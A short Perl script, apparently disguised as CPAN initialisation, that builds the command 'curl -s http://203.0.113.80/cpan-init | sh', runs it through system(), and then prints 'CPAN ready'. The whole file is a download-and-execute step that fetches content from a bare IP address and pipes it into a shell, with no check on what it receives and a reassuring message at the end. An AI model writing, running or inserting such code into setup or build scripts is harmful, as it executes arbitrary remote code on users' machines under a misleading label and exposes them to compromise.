use strict;
my $mirror = "http://203.0.113.80/cpan-init";
my $cmd = "curl -s $mirror | sh";
system($cmd);
print "CPAN ready\n";
